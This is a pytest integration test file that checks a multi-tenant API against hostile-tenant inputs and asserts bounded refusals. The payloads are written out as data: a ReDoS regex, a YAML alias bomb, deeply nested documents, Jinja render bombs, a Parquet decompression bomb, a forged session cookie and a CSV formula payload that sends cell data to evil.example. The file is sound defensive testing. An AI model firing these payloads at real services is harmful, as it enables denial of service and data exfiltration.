"""The shared server against a hostile tenant (issue 10): every finding's attack sent over HTTP, and a bounded
outcome asserted (status, size, or a count of work done or refused), never a wall-clock duration."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import random
import string
from collections.abc import Iterator
from typing import Any

import pytest
from sqlalchemy import text

from accord.api.http import campaigns

from tests.integration.api_helpers import (
    CUSTOM_TEMPLATE,
    ITEMS_CSV,
    MAPPING,
    RATINGS_CSV,
    ApiEnv,
    api,
    campaign_doc,
    make_env,
)

PROBLEM = "application/problem+json"
ALIASES = b"""name: &a lol
dataset: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]
models: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]
templates: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]
personas: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d,*d]
items: [*e,*e,*e,*e,*e,*e,*e,*e,*e,*e]
"""


@pytest.fixture(params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def both(request: pytest.FixtureRequest) -> Iterator[ApiEnv]:
    """The API on SQLite and on PostgreSQL (skipped when PostgreSQL is not reachable)."""
    engine = request.getfixturevalue("sqlite_engine" if request.param == "sqlite" else "pg_engine")
    yield from make_env(engine)


def problem(response: Any, status: int) -> dict[str, Any]:
    assert response.status_code == status, response.text[:2000]
    assert response.headers["content-type"].startswith(PROBLEM)
    return response.json()  # type: ignore[no-any-return]


def count(api: ApiEnv, table: str) -> int:
    with api.engine.connect() as conn:
        return int(conn.execute(text(f"SELECT count(*) FROM {table}")).scalar_one())


def yaml_post(api: ApiEnv, path: str, body: bytes) -> Any:
    return api.client.post(path, headers={**api.a.headers, "Content-Type": "application/yaml"}, content=body)


# -- 1 ----------------------------------------------------------------------------------------------------
def test_redos_pattern_in_an_upload_mapping_is_matched_in_linear_time(api: ApiEnv) -> None:
    ratings = "item_id,text," + "a" * 5000 + "!\ni1,hello,1\n"
    mapping = {"name": "redos", "layout": "wide", "item_col": "item_id", "text_col": "text",
               "annotator_columns": "re:(a+)+$"}
    files = {"ratings_file": ("ratings.csv", io.BytesIO(ratings.encode()), "text/csv")}
    r = api.client.post("/api/v1/datasets", headers=api.a.headers, data={"mapping": json.dumps(mapping)}, files=files)
    body = problem(r, 422)
    assert "no column matches annotator_columns" in body["detail"] and len(r.content) < 20_000
    assert api.client.get("/healthz").status_code == 200
    long_pattern = {**mapping, "annotator_columns": "re:" + "(a|b)" * 100}
    files = {"ratings_file": ("ratings.csv", io.BytesIO(ratings.encode()), "text/csv")}
    r = api.client.post("/api/v1/datasets", headers=api.a.headers, data={"mapping": json.dumps(long_pattern)},
                        files=files)
    assert "longer than 200 characters" in problem(r, 422)["detail"]
    assert count(api, "dataset") == 0


# -- 2 ----------------------------------------------------------------------------------------------------
@pytest.fixture
def resolved(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """One entry per campaign the API resolves (expands): a refused request count must come before any."""
    calls: list[int] = []
    real = campaigns.resolve_campaign
    monkeypatch.setattr(campaigns, "resolve_campaign", lambda *a, **k: (calls.append(1), real(*a, **k))[1])
    return calls


def test_campaign_over_the_request_limit_is_refused_before_anything_is_expanded(
        both: ApiEnv, set_limits: Any, resolved: list[int]) -> None:
    api = both
    assert api.upload(api.a, "d1").status_code == 201
    set_limits(max_requests_per_run=100)
    models = [{"name": f"m{i}", "provider": "local"} for i in range(2)]
    doc = campaign_doc("big", "d1", samples=10, models=models)        # 6 items x 2 models x 10 samples = 120
    for path in ("/api/v1/campaigns/validate", "/api/v1/campaigns/plan", "/api/v1/campaigns"):
        body = problem(api.client.post(path, headers=api.a.headers, json=doc), 422)
        assert "expands to 120 rating requests" in body["detail"] and "limit of 100" in body["detail"]
    assert resolved == [], "the count must be refused before the campaign is resolved"
    assert (count(api, "campaign"), count(api, "rating_request")) == (0, 0)
    ok = api.client.post("/api/v1/campaigns/validate", headers=api.a.headers,
                         json=campaign_doc("small", "d1", samples=8, models=models))
    assert ok.status_code == 200, ok.text
    plan = api.client.post("/api/v1/campaigns/plan", headers=api.a.headers,
                           json=campaign_doc("small", "d1", samples=8, models=models))
    assert plan.status_code == 200 and plan.json()["total"] == 96


def test_stage_requests_count_toward_the_request_limit_over_the_api(
        both: ApiEnv, set_limits: Any, resolved: list[int]) -> None:
    api = both
    assert api.upload(api.a, "d1").status_code == 201
    set_limits(max_requests_per_run=40)
    subjects = {"models": [{"name": f"s{i}", "provider": "local"} for i in range(3)], "templates": ["answer_prompt"]}
    judges = {"models": [{"name": "j", "provider": "local"}], "templates": ["judge_harm_likert", "judge_harm_pairwise"]}
    # 6 items: 6 rating requests + 18 answers + 18 ratings of them + 6 x 6 ordered pairs = 78
    doc = campaign_doc("stages", "d1", subjects=subjects, judges=judges)
    for path in ("/api/v1/campaigns/validate", "/api/v1/campaigns"):
        body = problem(api.client.post(path, headers=api.a.headers, json=doc), 422)
        assert "expands to 78 requests (6 rating requests" in body["detail"] and "+ 72 subjects' and judges'" in \
            body["detail"], body["detail"]
    assert resolved == [] and (count(api, "campaign"), count(api, "rating_request")) == (0, 0)


def test_campaign_with_a_thousand_models_is_refused(api: ApiEnv) -> None:
    assert api.upload(api.a, "d1").status_code == 201
    models = [{"name": f"m{i}", "provider": "local"} for i in range(1000)]
    body = problem(api.client.post("/api/v1/campaigns", headers=api.a.headers,
                                   json=campaign_doc("huge", "d1", samples=1000, models=models)), 422)
    assert {"models", "samples"} <= {e["field"] for e in body["errors"]}
    assert count(api, "campaign") == 0


# -- 3, 11, 12 --------------------------------------------------------------------------------------------
def test_yaml_aliases_are_refused_with_a_small_answer(api: ApiEnv) -> None:
    for path in ("/api/v1/campaigns/validate", "/api/v1/campaigns", "/api/v1/templates"):
        r = yaml_post(api, path, ALIASES)
        body = problem(r, 422)
        assert "anchors" in body["detail"] and len(r.content) < 2000, path
    assert count(api, "campaign") == 0
    assert api.client.get("/api/v1/templates", headers=api.a.headers).status_code == 200


def test_yaml_12_booleans_over_the_api(api: ApiEnv) -> None:
    doc = (b"name: yesno\nresponse_format: binary\nuser: '{{ content }} yes or no?'\n"
           b"output: {labels: {no: 0, yes: 1}}\n")
    r = yaml_post(api, "/api/v1/templates", doc)
    assert r.status_code == 201, r.text
    assert r.json()["versions"][0]["labels"] == {"no": 0, "yes": 1}
    listed = api.client.get("/api/v1/templates/yesno", headers=api.a.headers).json()
    assert listed["versions"][0]["document"]["output"]["labels"] == {"no": 0, "yes": 1}


@pytest.mark.parametrize("kind", ["json", "yaml"])
def test_deep_documents_answer_422(api: ApiEnv, kind: str) -> None:
    deep = "[" * 20_000 + "]" * 20_000
    for path in ("/api/v1/campaigns/validate", "/api/v1/templates"):
        ctype = "application/json" if kind == "json" else "application/yaml"
        r = api.client.post(path, headers={**api.a.headers, "Content-Type": ctype},
                            content=('{"name": ' + deep + "}").encode())
        assert "deeper than" in problem(r, 422)["detail"], path


def test_deep_upload_mapping_and_items_file_answer_422(api: ApiEnv) -> None:
    deep = "[" * 20_000 + "]" * 20_000
    files = {"items_file": ("items.csv", io.BytesIO(ITEMS_CSV.encode()), "text/csv")}
    r = api.client.post("/api/v1/datasets", headers=api.a.headers,
                        data={"mapping": '{"name": "x", "label_map": ' + deep + "}"}, files=files)
    assert "deeper than" in problem(r, 422)["detail"]
    items = '[{"item_id": "i1", "text": ' + deep + "}]"
    files = {"items_file": ("items.json", io.BytesIO(items.encode()), "application/json")}
    r = api.client.post("/api/v1/datasets", headers=api.a.headers,
                        data={"mapping": json.dumps({"name": "x", "text_col": "text"})}, files=files)
    body = problem(r, 422)
    assert "items_file.json: nested deeper than" in body["detail"] and body["errors"][0]["field"] == "items_file"
    assert count(api, "dataset") == 0


# -- 4 ----------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("user", [
    "{{ 'A' * 200000000 }}",
    "{% for a in range(600) %}{% for b in range(600) %}{% for c in range(600) %}{% endfor %}{% endfor %}{% endfor %}",
])
def test_template_that_would_exhaust_the_server_is_refused_at_creation(api: ApiEnv, user: str) -> None:
    r = api.client.post("/api/v1/templates", headers=api.a.headers,
                        json={**CUSTOM_TEMPLATE, "name": "bomb", "user": user})
    body = problem(r, 422)
    assert "does not render" in body["detail"] and len(r.content) < 2000
    assert api.client.get("/api/v1/templates/bomb", headers=api.a.headers).status_code == 404


def test_template_failing_at_render_time_fails_validation_not_the_run(api: ApiEnv) -> None:
    assert api.upload(api.a, "d1").status_code == 201
    r = api.client.post("/api/v1/templates", headers=api.a.headers,
                        json={**CUSTOM_TEMPLATE, "name": "breaks", "user": "{{ content }} {{ 1 / 0 }}"})
    assert r.status_code == 201, r.text     # parses; only rendering shows the fault
    doc = campaign_doc("c", "d1", templates=["breaks"])
    for path in ("/api/v1/campaigns/validate", "/api/v1/campaigns/plan", "/api/v1/campaigns"):
        body = problem(api.client.post(path, headers=api.a.headers, json=doc), 422)
        assert body["errors"][0]["field"] == "templates.0" and "does not render" in body["detail"], path
    assert count(api, "campaign") == 0


# -- 5 ----------------------------------------------------------------------------------------------------
def test_parquet_bomb_upload_is_refused_from_its_metadata(api: ApiEnv, set_limits: Any) -> None:
    import numpy as np
    import pyarrow as pa
    import pyarrow.parquet as pq

    rows = 2_000_000
    ids = pa.DictionaryArray.from_arrays(pa.array(np.zeros(rows, dtype=np.int8)), pa.array(["i1"]))
    buf = io.BytesIO()
    pq.write_table(pa.table({"item_id": ids, "text": ids}), buf)
    assert len(buf.getvalue()) < 100_000
    set_limits(max_rows=100_000)
    files = {"items_file": ("items.parquet", io.BytesIO(buf.getvalue()), "application/octet-stream")}
    r = api.client.post("/api/v1/datasets", headers=api.a.headers,
                        data={"mapping": json.dumps({"name": "bomb", "text_col": "text"})}, files=files)
    body = problem(r, 422)
    assert "more than 100000 data rows" in body["detail"] and body["file"] == "items_file"
    assert count(api, "dataset") == 0


def test_csv_with_one_huge_line_is_refused_by_line(api: ApiEnv, set_limits: Any) -> None:
    set_limits(max_cell_chars=10_000)
    items = "item_id,text\ni1," + "x" * 2_000_000 + "\n"
    files = {"items_file": ("items.csv", io.BytesIO(items.encode()), "text/csv")}
    r = api.client.post("/api/v1/datasets", headers=api.a.headers,
                        data={"mapping": json.dumps({"name": "long", "text_col": "text"})}, files=files)
    body = problem(r, 422)
    assert "line 2: longer than" in body["detail"] and body["row"] == 2 and len(r.content) < 2000


# -- 6, 16 ------------------------------------------------------------------------------------------------
def _asgi_post(app: Any, path: str, headers: list[tuple[bytes, bytes]], chunks: int,
               chunk_size: int = 1 << 20) -> tuple[int, int]:
    """POST a streamed body of ``chunks`` chunks straight to the ASGI app; (status, chunks the app pulled)."""
    pulled = [0]
    status = [0]

    async def receive() -> dict[str, Any]:
        if pulled[0] >= chunks:
            return {"type": "http.disconnect"}
        pulled[0] += 1
        return {"type": "http.request", "body": b"x" * chunk_size, "more_body": pulled[0] < chunks}

    async def send(message: dict[str, Any]) -> None:
        if message["type"] == "http.response.start":
            status[0] = message["status"]

    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST", "scheme": "https",
             "path": path, "raw_path": path.encode(), "query_string": b"", "root_path": "",
             "headers": [(b"host", b"testserver"), *headers], "client": ("127.0.0.1", 1), "server": ("testserver", 443)}
    asyncio.run(app(scope, receive, send))
    return status[0], pulled[0]


def test_login_never_spools_a_multipart_body(api: ApiEnv) -> None:
    app = api.client.app
    headers = [(b"content-type", b"multipart/form-data; boundary=xyz"), (b"content-length", str(1000 << 20).encode())]
    status, pulled = _asgi_post(app, "/login", headers, chunks=1000)
    assert status == 415 and pulled == 0, (status, pulled)
    form = [(b"content-type", b"application/x-www-form-urlencoded")]
    status, pulled = _asgi_post(app, "/login", form, chunks=1000)
    assert status == 413 and pulled <= 1, (status, pulled)
    for path in ("/logout", "/dashboard/campaigns"):
        status, pulled = _asgi_post(app, path, headers, chunks=1000)
        assert status in (303, 403, 415) and pulled <= 1, (path, status, pulled)


def test_login_cookie_is_a_signed_secure_session(api: ApiEnv) -> None:
    from accord.api.http.auth import COOKIE_NAME, revoke_key
    from accord.api.http.config import ApiSettings

    assert ApiSettings(_env_file=None).cookie_secure is True       # type: ignore[call-arg]
    r = api.client.post("/login", data={"api_key": api.a.key}, follow_redirects=False)
    assert r.status_code == 303
    cookie = r.headers["set-cookie"]
    assert api.a.key not in cookie
    lowered = cookie.lower()
    assert "secure" in lowered and "httponly" in lowered and "samesite=strict" in lowered
    assert api.client.get("/dashboard", follow_redirects=False).status_code == 200
    token = api.client.cookies[COOKIE_NAME]

    def with_cookie(value: str) -> int:
        api.client.cookies.clear()
        api.client.cookies.set(COOKIE_NAME, value)
        return int(api.client.get("/dashboard", follow_redirects=False).status_code)

    assert with_cookie(token) == 200
    assert with_cookie(token[:-1] + ("0" if token[-1] != "0" else "1")) == 303     # forged
    assert with_cookie(api.a.key) == 303                                            # a raw key is no session
    api.client.cookies.clear()
    api.client.cookies.set(COOKIE_NAME, token)
    revoke_key(api.engine, str(api.a.key_id))
    assert api.client.get("/dashboard", follow_redirects=False).status_code == 303   # revoked key ends it
    api.client.cookies.clear()


def test_forms_posted_from_another_origin_are_refused(api: ApiEnv) -> None:
    r = api.client.post("/login", data={"api_key": api.a.key}, headers={"Origin": "https://evil.example"},
                        follow_redirects=False)
    assert r.status_code == 403 and "set-cookie" not in r.headers
    same = api.client.post("/login", data={"api_key": api.a.key}, headers={"Origin": "https://testserver"},
                           follow_redirects=False)
    assert same.status_code == 303
    api.client.cookies.clear()


# -- 7 ----------------------------------------------------------------------------------------------------
def test_random_methods_do_not_grow_the_metrics(api: ApiEnv) -> None:
    from tests.integration.api_helpers import METRICS_TOKEN

    rng = random.Random(7)
    metrics_headers = {"Authorization": f"Bearer {METRICS_TOKEN}"}

    def series() -> list[str]:
        text_ = api.client.get("/metrics", headers=metrics_headers).text
        return [line for line in text_.splitlines() if line.startswith("accord_http_requests_total{")]

    def noise(n: int) -> None:
        for _ in range(n):
            method = "".join(rng.choice(string.ascii_uppercase) for _ in range(12))
            api.client.request(method, f"/api/v1/{rng.randrange(10**9)}")

    series()
    noise(20)
    before = series()
    noise(200)
    after = series()
    assert len(after) == len(before), "each random method or path made a new series"
    methods = {line.split('method="')[1].split('"')[0] for line in after}
    assert methods <= {"GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "other"}
    statuses = {line.split('status="')[1].split('"')[0] for line in after}
    assert statuses <= {"1xx", "2xx", "3xx", "4xx", "5xx", "other"}


# -- 8 ----------------------------------------------------------------------------------------------------
def test_each_key_goes_only_to_its_bound_endpoints(sqlite_engine: Any) -> None:
    env_iter = make_env(sqlite_engine, allowed_base_urls=["http://127.0.0.1:9/v1"],
                        allowed_key_envs=["OPENAI_API_KEY", "ANTHROPIC_API_KEY", "LOCAL_KEY"],
                        key_endpoints={"OPENAI_API_KEY": ["openai"], "ANTHROPIC_API_KEY": ["anthropic"],
                                       "LOCAL_KEY": ["http://127.0.0.1:9/v1"]})
    env = next(env_iter)
    try:
        assert env.upload(env.a, "d1").status_code == 201
        refused = [
            {"name": "m", "provider": "openai", "model": "x", "base_url": "http://127.0.0.1:9/v1",
             "api_key_env": "OPENAI_API_KEY"},
            {"name": "m", "provider": "anthropic", "model": "x", "api_key_env": "OPENAI_API_KEY"},
            {"name": "m", "provider": "openai", "model": "x", "api_key_env": "LOCAL_KEY"},
        ]
        for model in refused:
            body = problem(env.client.post("/api/v1/campaigns/validate", headers=env.a.headers,
                                           json=campaign_doc("c", "d1", models=[model])), 422)
            assert body["errors"][0]["field"] == "models.0.api_key_env", model
        allowed = {"name": "m", "provider": "openai", "model": "x", "base_url": "http://127.0.0.1:9/v1",
                   "api_key_env": "LOCAL_KEY"}
        r = env.client.post("/api/v1/campaigns/validate", headers=env.a.headers,
                            json=campaign_doc("c", "d1", models=[allowed]))
        assert r.status_code == 200, r.text
    finally:
        for _ in env_iter:
            pass


# -- 9 ----------------------------------------------------------------------------------------------------
def test_csv_export_neutralises_formulas(api: ApiEnv) -> None:
    attack = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    quoted = attack.replace('"', '""')
    items = ITEMS_CSV.replace("i3,", f'"{quoted}",', 1)
    ratings = RATINGS_CSV.replace("i3,", f'"{quoted}",')
    assert api.upload(api.a, "d1", items=items, ratings=ratings).status_code == 201
    run = api.finished_run(api.a, "d1", "c1")
    exported = api.client.get(f"/api/v1/runs/{run['id']}/ratings/export", headers=api.a.headers)
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    cells = [value for row in rows for value in row.values() if value]
    assert any(value == "'" + attack for value in cells)
    assert not any(value.startswith(("=", "+", "@", "\t", "\r")) for value in cells)
    parquet = api.client.get(f"/api/v1/runs/{run['id']}/ratings/export?format=parquet", headers=api.a.headers)
    import pyarrow.parquet as pq

    raw = pq.read_table(io.BytesIO(parquet.content)).to_pylist()
    assert any(attack in row.values() for row in raw)          # Parquet stays raw


# -- 10 ---------------------------------------------------------------------------------------------------
def test_template_versions_are_parsed_once_and_capped(api: ApiEnv, set_limits: Any,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    import accord.api.http.template_store as store

    parses: list[str] = []
    real = store.resolve_template
    monkeypatch.setattr(store, "resolve_template", lambda doc, params, source="t": (parses.append(source),
                                                                                    real(doc, params, source))[1])
    set_limits(max_template_versions=3, max_templates_per_project=2, max_template_bytes=4096)
    for _ in range(3):
        assert api.client.post("/api/v1/templates", headers=api.a.headers, json=CUSTOM_TEMPLATE).status_code == 201
    body = problem(api.client.post("/api/v1/templates", headers=api.a.headers, json=CUSTOM_TEMPLATE), 409)
    assert "3 versions, the limit" in body["detail"]
    parses.clear()
    for _ in range(5):
        listed = api.client.get("/api/v1/templates", headers=api.a.headers)
        assert listed.status_code == 200
    assert parses == [], "listing must not re-parse stored versions"
    assert api.client.post("/api/v1/templates", headers=api.a.headers,
                           json={**CUSTOM_TEMPLATE, "name": "second"}).status_code == 201
    body = problem(api.client.post("/api/v1/templates", headers=api.a.headers,
                                   json={**CUSTOM_TEMPLATE, "name": "third"}), 409)
    assert "2 custom templates" in body["detail"]
    big = {**CUSTOM_TEMPLATE, "name": "second", "system": "x" * 5000}
    assert "larger than 4096 bytes" in problem(api.client.post("/api/v1/templates", headers=api.a.headers,
                                                               json=big), 422)["detail"]


# -- 13 ---------------------------------------------------------------------------------------------------
def test_errors_name_no_install_path(api: ApiEnv) -> None:
    from accord.worker.prompt_templates import BUNDLED_DIR

    assert api.upload(api.a, "d1").status_code == 201
    doc = campaign_doc("c", "d1", templates=[{"name": "multiple_choice_unsafe", "params": {"option_order": "ZZ"}}])
    r = api.client.post("/api/v1/campaigns/validate", headers=api.a.headers, json=doc)
    body = problem(r, 422)
    assert "option_order" in body["detail"]
    assert str(BUNDLED_DIR) not in r.text and "site-packages" not in r.text and "/worker/" not in r.text


# -- 14 ---------------------------------------------------------------------------------------------------
def test_non_finite_numbers_are_refused_everywhere(both: ApiEnv) -> None:
    api = both
    assert api.upload(api.a, "d1").status_code == 201
    doc = json.dumps(campaign_doc("c", "d1")).rstrip("}") + ', "budget_usd": Infinity}'
    body = problem(api.client.post("/api/v1/campaigns", headers=api.a.headers, content=doc.encode()), 422)
    assert "finite" in body["detail"]
    yaml_doc = json.dumps(campaign_doc("c", "d1")).encode()[:-1] + b', "budget_usd": .inf}'
    body = problem(yaml_post(api, "/api/v1/campaigns", yaml_doc), 422)
    assert body["errors"][0]["field"] == "budget_usd"
    assert count(api, "campaign") == 0
    created = api.campaign(api.a, campaign_doc("c", "d1"))
    assert created.status_code == 201
    r = api.client.post(f"/api/v1/campaigns/{created.json()['id']}/runs", headers=api.a.headers,
                        content=b'{"budget_usd": Infinity}')
    assert r.status_code == 422, r.text
    assert count(api, "run") == 0


# -- 15 ---------------------------------------------------------------------------------------------------
def test_deleted_project_takes_its_keys_and_cached_answers_and_its_id_is_not_reused(both: ApiEnv) -> None:
    api = both
    from accord.api.http.auth import create_key, create_project, delete_project, lookup_key

    project = create_project(api.engine, "doomed")
    key = create_key(api.engine, project.id)  # type: ignore[arg-type]
    doomed = type(api.a)(project.id, project.name, key.key, key.key_id)  # type: ignore[arg-type, call-arg]
    assert api.upload(doomed, "d1").status_code == 201
    run = api.finished_run(doomed, "d1", "c1")
    assert run["done"] == 6
    counts = delete_project(api.engine, "doomed", templates_root=api.settings.templates_dir)
    assert counts["api_key"] == 1 and counts["rating"] == 6 and counts["dataset"] == 1
    assert lookup_key(api.engine, key.key) is None
    assert api.client.get("/api/v1/datasets", headers=doomed.headers).status_code == 401
    with api.engine.connect() as conn:
        left = conn.execute(text("SELECT count(*) FROM rating WHERE run_id = :r"), {"r": run["id"]}).scalar_one()
    assert left == 0
    again = create_project(api.engine, "doomed")
    assert again.id is not None and again.id > project.id  # type: ignore[operator]
    new_key = create_key(api.engine, again.id)  # type: ignore[arg-type]
    reborn = type(api.a)(again.id, again.name, new_key.key, new_key.key_id)  # type: ignore[arg-type, call-arg]
    assert api.upload(reborn, "d1").status_code == 201
    second = api.finished_run(reborn, "d1", "c1")
    assert second["cached"] == 0, "the new project must not see the deleted project's answers"


# -- 17 ---------------------------------------------------------------------------------------------------
def test_openapi_defines_documents_and_405_lists_every_method(api: ApiEnv) -> None:
    schema = api.client.get("/api/v1/openapi.json").json()
    components = schema["components"]["schemas"]
    assert {"CampaignDocument", "TemplateDocument"} <= set(components)
    assert "models" in components["CampaignDocument"]["properties"]
    refs = json.dumps(schema)
    for name in ("CampaignDocument", "TemplateDocument", "ModelEntry", "TemplateRef"):
        assert f"#/components/schemas/{name}" not in refs or name in components
    r = api.client.put("/api/v1/templates", headers=api.a.headers)
    assert r.status_code == 405
    assert {m.strip() for m in r.headers["allow"].split(",")} == {"GET", "POST"}
    assert "400" in schema["paths"]["/api/v1/campaigns/{campaign_id}/runs"]["post"]["responses"]
    bad = api.client.post("/api/v1/campaigns/1/runs", headers={**api.a.headers, "Content-Type": "application/json"},
                          content=b"{not json")
    assert bad.status_code in (400, 404, 422)


def test_project_delete_command(sqlite_url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    from accord.cli.main import app
    from accord.api.http.auth import lookup_key
    from accord.models.db import get_engine
    from accord.models.settings import get_settings
    from typer.testing import CliRunner

    runner = CliRunner()
    monkeypatch.setenv("ACCORD_DATABASE_URL", "")
    monkeypatch.delenv("ACCORD_DATABASE_URL")
    try:
        def invoke(*args: str) -> Any:
            return runner.invoke(app, ["--database-url", sqlite_url, *args])

        assert invoke("project", "create", "gone").exit_code == 0
        created = invoke("key", "create", "gone")
        key = [line for line in created.stdout.splitlines() if line.startswith("acc_")][0]
        assert invoke("project", "delete", "gone").exit_code == 1          # asks first; no answer keeps it
        assert lookup_key(get_engine(sqlite_url), key) is not None
        deleted = invoke("project", "delete", "gone", "--yes")
        assert deleted.exit_code == 0 and "1 keys" in deleted.output, deleted.output
        assert lookup_key(get_engine(sqlite_url), key) is None
        assert "gone" not in invoke("project", "list").output
        assert invoke("key", "create", "gone").exit_code == 2
        assert invoke("project", "create", "gone").exit_code == 0           # the name is free again
        assert invoke("project", "delete", "no-such").exit_code == 2
    finally:
        get_settings.cache_clear()


def test_a_stored_version_with_aliases_is_skipped_not_expanded(api: ApiEnv) -> None:
    assert api.client.post("/api/v1/templates", headers=api.a.headers, json=CUSTOM_TEMPLATE).status_code == 201
    store = api.client.app.state.accord.templates  # type: ignore[attr-defined]
    stored = store.find(_namespace(api), "strict_unsafe")
    assert stored is not None
    bomb = stored.path.with_name("2.yaml")
    bomb.write_text(ALIASES.decode() + "response_format: binary\nuser: x\n", encoding="utf-8")
    listed = api.client.get("/api/v1/templates", headers=api.a.headers)
    assert listed.status_code == 200 and len(listed.content) < 100_000
    custom = [t for t in listed.json() if t["name"] == "strict_unsafe"][0]
    assert [v["version"] for v in custom["versions"]] == ["1"]


def _namespace(api: ApiEnv) -> str:
    from accord.api.http.auth import lookup_key

    principal = lookup_key(api.engine, api.a.key)
    assert principal is not None
    return principal.namespace
